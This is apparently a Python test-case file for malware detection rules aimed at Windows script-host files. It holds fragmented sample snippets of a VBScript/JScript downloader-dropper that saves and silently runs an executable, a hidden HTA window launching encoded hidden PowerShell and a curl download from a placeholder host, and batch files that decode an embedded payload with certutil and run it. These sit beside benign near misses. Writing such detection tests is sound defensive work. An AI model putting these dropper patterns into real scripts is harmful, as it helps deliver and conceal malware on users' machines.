"""Behaviour of the rules for scripts of the Windows script hosts."""

from rules.bundle.samples import PROSE, Case, filler, text, wide

_FETCH = (
    'Set web = CreateObject("MSXML2.XML',
    'HTTP")\nSet s = CreateObject("ADO',
    'DB.Stream")\n',
    'p = sh.ExpandEnvironmentStrings("%TE',
    'MP%") & "\\a.ex',
    'e"\ns.SaveTo',
    "File p, 2\n",
)

CASES = {
    "Clearward_Script_Dropper": Case(
        samples=(
            text(*_FETCH, "sh.Ru", "n p, 0, False\n"),
            wide(*_FETCH, "sh.Ru", "n p, 0\n"),
            text(
                'var e = d.createElement("a"); e.dataType = "bin.ba',
                'se64"; e.text = "',
                filler("TVqQAA", 80),
                '"; var s = new ActiveXObject("ADO',
                'DB.Stream"); s.SaveTo',
                'File(f.GetSpecialFolder(2) + "\\\\a.sc',
                'r"); sh.Ru',
                "n(f, 0);",
            ),
        ),
        near_misses=(
            text(*_FETCH, 'sh.Run p & " /quiet /norestart", 0, True\n'),
            text(
                'Set s = CreateObject("ADODB.Stream")\n',
                's.SaveToFile "C:\\Reports\\day.csv", 2\nsh.Run "excel.exe", 1',
            ),
            text(
                'Set web = CreateObject("MSXML2.XMLHTTP")\n',
                'web.Open "GET", address, False\nsh.Run "cleanup.bat", 0',
            ),
        ),
    ),
    "Clearward_Script_HTA_Hidden": Case(
        samples=(
            text(
                "<hta:applica",
                'tion showintaskbar="no"><s§cript language="vbscript">window.resize',
                "To 0,0\n",
                'CreateObject("WScript.Sh',
                'ell").Run "powersh',
                'ell -w hid" & "den -en',
                'c x"</script>',
            ),
            text(
                "<script>window.move",
                'To(-9000, 0); var s = new ActiveXObject("WScript.Sh',
                'ell");',
                's.Run("cmd /c cu',
                'rl -o a http://files.example/a");</script>',
            ),
        ),
        near_misses=(
            text(
                '<hta:application windowstate="minimize"><script>new ',
                'ActiveXObject("WScript.Shell").Run("notepad")</script>',
            ),
            text(
                "<script>window.resizeTo(800, 600); shell = new ",
                'ActiveXObject("WScript.Shell");',
                ' shell.Run("powershell -File report.ps1")</script>',
            ),
            text(
                "<script>canvas.moveTo(-1, 5); ",
                "fetch('http://files.example/curl');</script>",
            ),
        ),
    ),
    "Clearward_Script_Batch_Self_Decode": Case(
        samples=(
            text(
                "@echo off\r\ncertu",
                "til -f -deco",
                'de "%~f0" "%TEMP%\\a.exe"\r\nstart "" "%TE',
                "MP%\\a.ex",
                'e"\r\nexit\r\n',
                filler("TVqQAA", 80),
            ),
            text(
                "certu",
                "til -deco",
                "de %0 %PUBLIC%\\a.zip\r\nca",
                "ll %PUB",
                "LIC%\\a\\run.ba",
                "t\r\n",
                filler("UEsDBB", 80),
            ),
        ),
        near_misses=(
            text(
                "c§ertutil -decode request.b64 request.der\r\nstart request.der\r\n",
                filler("MIIB", 80),
            ),
            text(
                'c§ertutil -decode "%~f0" settings.cab\r\n',
                "expand settings.cab -F:* .\r\n",
                filler("TVNDRg", 80),
            ),
            text(
                PROSE,
                "A batch file can decode itself: c§ertutil -decode %0, then start.",
            ),
        ),
    ),
}
